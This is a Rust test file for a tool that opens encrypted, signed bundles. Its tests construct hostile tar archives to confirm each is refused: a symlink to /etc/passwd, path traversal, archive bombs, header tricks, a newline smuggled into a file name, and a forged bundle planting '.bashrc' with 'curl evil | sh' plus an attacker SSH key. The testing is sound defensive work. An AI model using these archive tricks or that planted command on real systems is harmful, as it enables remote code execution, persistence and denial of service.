//! Hostile bundles, as a forger or a hostile watcher would make them.

use super::super::bundle::{SIGNATURE_FORMAT, SignatureFile, sealing_fingerprint, signed_listing};
use super::*;

fn tar_header(path: &str, size: u64) -> tar::Header {
    let mut header = tar::Header::new_gnu();
    header.set_path(path).unwrap();
    header.set_size(size);
    header.set_mode(0o600);
    header.set_cksum();
    header
}

/// A lawyer's key, and a bundle sealed for it holding what `build` writes.
fn sealed_archive(build: impl FnOnce(&mut tar::Builder<&mut Vec<u8>>)) -> (Vec<u8>, LawyerKey) {
    let mut plain = Vec::new();
    {
        let mut archive = tar::Builder::new(&mut plain);
        build(&mut archive);
        archive.finish().unwrap();
    }
    let (_, identity) = crate::vault::identity::generate();
    seal_plain(&plain, identity)
}

fn seal_plain(plain: &[u8], identity: age::x25519::Identity) -> (Vec<u8>, LawyerKey) {
    let recipient = identity.to_public();
    let mut sealed = Vec::new();
    let encryptor =
        age::Encryptor::with_recipients(std::iter::once(&recipient as &dyn age::Recipient))
            .unwrap();
    let mut writer = encryptor.wrap_output(&mut sealed).unwrap();
    writer.write_all(plain).unwrap();
    writer.finish().unwrap();
    let public = recipient.to_string();
    (
        sealed,
        LawyerKey {
            keys: vec![(Box::new(identity), public)],
        },
    )
}

fn sealing_key() -> ring::signature::Ed25519KeyPair {
    let rng = ring::rand::SystemRandom::new();
    let pkcs8 = ring::signature::Ed25519KeyPair::generate_pkcs8(&rng).unwrap();
    ring::signature::Ed25519KeyPair::from_pkcs8(pkcs8.as_ref()).unwrap()
}

fn manifest(recipients: Vec<String>) -> Vec<u8> {
    serde_json::to_vec(&Manifest {
        format: FORMAT_V2.into(),
        name: "n".into(),
        sealed_ms: 0,
        by: "b".into(),
        for_: vec![],
        items: vec![],
        bundle_id: "00".repeat(16),
        version: 1,
        recipients,
    })
    .unwrap()
}

/// A signed archive: the manifest (naming `recipients`), `files`, the signature; then
/// whatever `after` appends.
fn signed_plain(
    key: &ring::signature::Ed25519KeyPair,
    recipients: Vec<String>,
    files: &[(&str, &[u8])],
    after: impl FnOnce(&mut tar::Builder<&mut Vec<u8>>),
) -> Vec<u8> {
    let mut plain = Vec::new();
    {
        let mut a = tar::Builder::new(&mut plain);
        let manifest = manifest(recipients);
        let mut listing = Vec::new();
        for (path, bytes) in
            std::iter::once(("manifest.json", &manifest[..])).chain(files.iter().copied())
        {
            a.append(&tar_header(path, bytes.len() as u64), bytes)
                .unwrap();
            listing.push((path.to_string(), bytes.len() as u64, sha256_hex(bytes)));
        }
        let public = ring::signature::KeyPair::public_key(key).as_ref();
        let signature = serde_json::to_vec(&SignatureFile {
            format: SIGNATURE_FORMAT.into(),
            key: crate::crypto::b64(public),
            fingerprint: sealing_fingerprint(public),
            signature: crate::crypto::b64(key.sign(&signed_listing(&listing)).as_ref()),
        })
        .unwrap();
        a.append(
            &tar_header(SIGNATURE_FILE, signature.len() as u64),
            &signature[..],
        )
        .unwrap();
        after(&mut a);
        a.finish().unwrap();
    }
    plain
}

/// A bundle signed by `key`, sealed for a new lawyer's key and naming it.
fn signed_bundle(
    key: &ring::signature::Ed25519KeyPair,
    files: &[(&str, &[u8])],
    after: impl FnOnce(&mut tar::Builder<&mut Vec<u8>>),
) -> (Vec<u8>, LawyerKey) {
    let (_, identity) = crate::vault::identity::generate();
    let plain = signed_plain(key, vec![identity.to_public().to_string()], files, after);
    seal_plain(&plain, identity)
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn hostile_archives_are_refused_and_leave_nothing_behind() {
    let temp = tempfile::tempdir().unwrap();
    let open_at = |sealed: &[u8], key: &LawyerKey, name: &str| {
        open(
            &mut &sealed[..],
            Input::Sealed(key),
            Some(&temp.path().join(name)),
            None,
        )
    };
    // A symbolic link pointing out of the folder.
    let (sealed, key) = sealed_archive(|a| {
        let mut header = tar::Header::new_ustar();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_path("01-x/link").unwrap();
        header.set_link_name("/etc/passwd").unwrap();
        header.set_size(0);
        header.set_cksum();
        a.append(&header, std::io::empty()).unwrap();
    });
    assert!(matches!(
        open_at(&sealed, &key, "a"),
        Err(BundleError::Damaged(_))
    ));
    // A FIFO, which would hang whatever opened it.
    let (sealed, key) = sealed_archive(|a| {
        let mut header = tar_header("01-x/fifo", 0);
        header.set_entry_type(tar::EntryType::Fifo);
        header.set_cksum();
        a.append(&header, std::io::empty()).unwrap();
    });
    assert!(matches!(
        open_at(&sealed, &key, "b"),
        Err(BundleError::Damaged(_))
    ));
    // An entry claiming more than a bundle can hold.
    let (sealed, key) = sealed_archive(|a| {
        let header = tar_header("01-x/huge", MAX_PLAINTEXT * 4);
        a.append(&header, std::io::repeat(0).take(0)).unwrap_or(());
    });
    assert!(open_at(&sealed, &key, "c").is_err());
    // A path leaving the folder, and one deeper than posbon writes.
    let (sealed, key) = sealed_archive(|a| {
        let mut header = tar::Header::new_gnu();
        let name = b"../escaped";
        header.as_old_mut().name[..name.len()].copy_from_slice(name);
        header.set_size(1);
        header.set_cksum();
        a.append(&header, &b"x"[..]).unwrap();
    });
    assert!(open_at(&sealed, &key, "d").is_err());
    assert!(!temp.path().join("escaped").exists());
    let (sealed, key) = sealed_archive(|a| {
        a.append(&tar_header("a/b/c/d", 1), &b"x"[..]).unwrap();
    });
    assert!(
        matches!(open_at(&sealed, &key, "e"), Err(BundleError::Damaged(why)) if why.contains("deeper"))
    );
    // Nothing at all was written for any of them.
    assert!(
        names_in(temp.path()).is_empty(),
        "{:?}",
        names_in(temp.path())
    );
}

/// The audit's denial-of-service bundles: each is refused quickly, in bounded memory,
/// before anything is written.
#[test]
fn bombs_are_refused_before_anything_is_written() {
    let temp = tempfile::tempdir().unwrap();
    // 400,000 directories in a few MB (the audit's took 43 s and was refused after 104).
    let (sealed, key) = sealed_archive(|a| {
        for n in 0..(MAX_ENTRIES + 10) {
            let mut header = tar_header(&format!("d{n}"), 0);
            header.set_entry_type(tar::EntryType::Directory);
            header.set_cksum();
            a.append(&header, std::io::empty()).unwrap();
        }
    });
    let started = std::time::Instant::now();
    let refused = open(
        &mut &sealed[..],
        Input::Sealed(&key),
        Some(&temp.path().join("dirs")),
        None,
    );
    assert!(matches!(refused, Err(BundleError::Damaged(why)) if why.contains("entries")));
    // Not a timing test: a bound far above the real cost, to catch a walk of the disk.
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    // A GNU long name of 4 MB (the audit's 400 MB one took 2 GB of memory).
    let mut plain = Vec::new();
    let mut header = tar::Header::new_gnu();
    header.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
    header.set_entry_type(tar::EntryType::GNULongName);
    header.set_size(4 * 1024 * 1024);
    header.set_cksum();
    plain.extend_from_slice(header.as_bytes());
    plain.extend(std::iter::repeat_n(b'a', 4 * 1024 * 1024));
    plain.extend_from_slice(&[0u8; 1024]);
    let (sealed, key) = seal_plain(&plain, crate::vault::identity::generate().1);
    let refused = open(
        &mut &sealed[..],
        Input::Sealed(&key),
        Some(&temp.path().join("name")),
        None,
    );
    assert!(matches!(refused, Err(BundleError::Damaged(why)) if why.contains("extension header")));
    // A sparse file claiming a terabyte.
    let (sealed, key) = sealed_archive(|a| {
        let mut header = tar_header("01-x/sparse", 0);
        header.set_entry_type(tar::EntryType::GNUSparse);
        header.set_cksum();
        a.append(&header, std::io::empty()).unwrap();
    });
    let refused = open(
        &mut &sealed[..],
        Input::Sealed(&key),
        Some(&temp.path().join("sparse")),
        None,
    );
    assert!(matches!(refused, Err(BundleError::Damaged(_))));
    // A PAX header whose `size` hides the entries after it from the header walk (the tar
    // library obeys it): posbon never writes extension headers, so it is refused.
    let mut plain = Vec::new();
    {
        let mut a = tar::Builder::new(&mut plain);
        let pax = b"11 size=0\n";
        let mut header = tar_header("PaxHeaders/x", pax.len() as u64);
        header.set_entry_type(tar::EntryType::XHeader);
        header.set_cksum();
        a.append(&header, &pax[..]).unwrap();
        for n in 0..20 {
            let mut dir = tar_header(&format!("d{n}"), 0);
            dir.set_entry_type(tar::EntryType::Directory);
            dir.set_cksum();
            a.append(&dir, std::io::empty()).unwrap();
        }
        a.finish().unwrap();
    }
    let refused = open(
        &mut &plain[..],
        Input::Plain,
        Some(&temp.path().join("pax")),
        None,
    );
    assert!(matches!(refused, Err(BundleError::Damaged(why)) if why.contains("extension headers")));
    // Input larger than any bundle is not read to its end.
    let mut endless = std::io::repeat(b'x');
    let refused = open(
        &mut endless,
        Input::Plain,
        Some(&temp.path().join("big")),
        None,
    );
    assert!(matches!(refused, Err(BundleError::Damaged(why)) if why.contains("larger")));
    assert!(names_in(temp.path()).is_empty());
}

#[test]
fn the_signature_covers_every_file_and_nothing_may_follow_it() {
    let key = sealing_key();
    let fingerprint = sealing_fingerprint(ring::signature::KeyPair::public_key(&key).as_ref());
    let temp = tempfile::tempdir().unwrap();
    let files: &[(&str, &[u8])] = &[("01-x/a.txt", b"case notes")];
    let (sealed, lawyer) = signed_bundle(&key, files, |_| {});
    let opened = open(
        &mut &sealed[..],
        Input::Sealed(&lawyer),
        Some(&temp.path().join("ok")),
        None,
    )
    .unwrap();
    assert_eq!(
        opened.sealer,
        Sealer::Signed {
            fingerprint: fingerprint.clone()
        }
    );
    assert_eq!(opened.key, KeyCheck::SealedForThisKey);
    assert_eq!(
        opened.written,
        [
            PathBuf::from("manifest.json"),
            PathBuf::from("01-x/a.txt"),
            PathBuf::from(SIGNATURE_FILE)
        ]
    );
    assert_eq!(
        std::fs::read(temp.path().join("ok/01-x/a.txt")).unwrap(),
        b"case notes"
    );
    // A file slipped in after the signature, outside what it covers.
    let (sealed, lawyer) = signed_bundle(&key, files, |a| {
        a.append(&tar_header("01-x/planted.txt", 1), &b"x"[..])
            .unwrap();
    });
    assert!(matches!(
        open(&mut &sealed[..], Input::Sealed(&lawyer), Some(&temp.path().join("after")), None),
        Err(BundleError::Damaged(why)) if why.contains("follows")
    ));
    // A name with a line break, which could make two files read as one in the signed
    // listing and hide the second.
    let (sealed, lawyer) = sealed_archive(|a| {
        let mut header = tar::Header::new_gnu();
        let name = b"01-x/b.txt\nfeed 1 01-x/c.txt";
        header.as_old_mut().name[..name.len()].copy_from_slice(name);
        header.set_size(1);
        header.set_cksum();
        a.append(&header, &b"x"[..]).unwrap();
    });
    assert!(matches!(
        open(&mut &sealed[..], Input::Sealed(&lawyer), Some(&temp.path().join("newline")), None),
        Err(BundleError::Damaged(why)) if why.contains("control character")
    ));
    // --from: another sealer, or none, is refused.
    let (sealed, lawyer) = signed_bundle(&key, files, |_| {});
    assert!(matches!(
        open(
            &mut &sealed[..],
            Input::Sealed(&lawyer),
            Some(&temp.path().join("other")),
            Some("0000-1111")
        ),
        Err(BundleError::WrongSealer { .. })
    ));
    let (unsigned, lawyer) = sealed_archive(|a| {
        let manifest = manifest(vec![]);
        a.append(
            &tar_header("manifest.json", manifest.len() as u64),
            &manifest[..],
        )
        .unwrap();
    });
    assert!(matches!(
        open(
            &mut &unsigned[..],
            Input::Sealed(&lawyer),
            Some(&temp.path().join("unsigned")),
            Some(&fingerprint)
        ),
        Err(BundleError::Unsigned)
    ));
    assert_eq!(
        names_in(temp.path()),
        ["ok"],
        "only what opened and checked out"
    );
}

/// A forger holding only the lawyer's public key seals dotfiles and an executable: with
/// `--from`, `posbon open` writes none of it (the same files through `age -d | tar x`
/// would replace the lawyer's `.bashrc`).
#[test]
fn a_forged_bundle_of_dotfiles_writes_nothing() {
    let temp = tempfile::tempdir().unwrap();
    let journalist = sealing_key();
    let fingerprint =
        sealing_fingerprint(ring::signature::KeyPair::public_key(&journalist).as_ref());
    let forger = sealing_key();
    for (name, files) in [("unsigned", None), ("forged", Some(&forger))] {
        let (_, identity) = crate::vault::identity::generate();
        let plain = match files {
            Some(forger) => signed_plain(
                forger,
                vec![identity.to_public().to_string()],
                &[
                    (".bashrc", b"curl evil | sh"),
                    (".ssh/authorized_keys", b"ssh-ed25519 AAAA evil"),
                ],
                |_| {},
            ),
            None => {
                let mut plain = Vec::new();
                let mut a = tar::Builder::new(&mut plain);
                a.append(&tar_header(".bashrc", 14), &b"curl evil | sh"[..])
                    .unwrap();
                a.finish().unwrap();
                drop(a);
                plain
            }
        };
        let (sealed, lawyer) = seal_plain(&plain, identity);
        let refused = open(
            &mut &sealed[..],
            Input::Sealed(&lawyer),
            Some(&temp.path().join(name)),
            Some(&fingerprint),
        );
        assert!(refused.is_err(), "{name}");
    }
    assert!(names_in(temp.path()).is_empty());
}

/// Someone who could open the bundle (one lawyer) re-encrypts it for another: the signed
/// recipients show it.
#[test]
fn a_copy_re_encrypted_for_another_key_is_refused() {
    let key = sealing_key();
    let (_, first) = crate::vault::identity::generate();
    let plain = signed_plain(
        &key,
        vec![first.to_public().to_string()],
        &[("01-x/a.txt", b"notes")],
        |_| {},
    );
    let (_, second) = crate::vault::identity::generate();
    let (copy, lawyer) = seal_plain(&plain, second);
    let temp = tempfile::tempdir().unwrap();
    let refused = open(
        &mut &copy[..],
        Input::Sealed(&lawyer),
        Some(&temp.path().join("copy")),
        None,
    );
    assert!(matches!(
        refused,
        Err(BundleError::NotSealedForThisKey { .. })
    ));
    // The plain archive itself (from `age -d`) opens, with the recipient left unchecked.
    let opened = open(
        &mut &plain[..],
        Input::Plain,
        Some(&temp.path().join("plain")),
        None,
    )
    .unwrap();
    assert_eq!(opened.key, KeyCheck::NotChecked);
}

#[test]
fn names_that_hide_their_ending_are_written_plainly() {
    let key = sealing_key();
    let tricky = "01-x/report\u{202E}fdp.exe";
    let (sealed, lawyer) = signed_bundle(&key, &[(tricky, b"MZ")], |_| {});
    let temp = tempfile::tempdir().unwrap();
    let opened = open(
        &mut &sealed[..],
        Input::Sealed(&lawyer),
        Some(&temp.path().join("o")),
        None,
    )
    .unwrap();
    assert!(
        opened
            .written
            .contains(&PathBuf::from("01-x/report_fdp.exe")),
        "{:?}",
        opened.written
    );
    assert!(temp.path().join("o/01-x/report_fdp.exe").exists());
    assert_eq!(displayable("a\u{2066}b\u{200B}c\u{7}"), "a_b_c_");
    assert_eq!(displayable("a\u{2028}b\u{AD}c\u{E0041}d"), "a_b_c_d");
}

#[test]
fn looking_without_a_folder_writes_nothing() {
    let key = sealing_key();
    let (sealed, lawyer) = signed_bundle(&key, &[("01-x/a.txt", b"notes")], |_| {});
    let before = std::env::current_dir().unwrap();
    let opened = open(&mut &sealed[..], Input::Sealed(&lawyer), None, None).unwrap();
    assert!(opened.written.is_empty());
    assert_eq!(opened.manifest.version, 1);
    assert_eq!(std::env::current_dir().unwrap(), before);
}
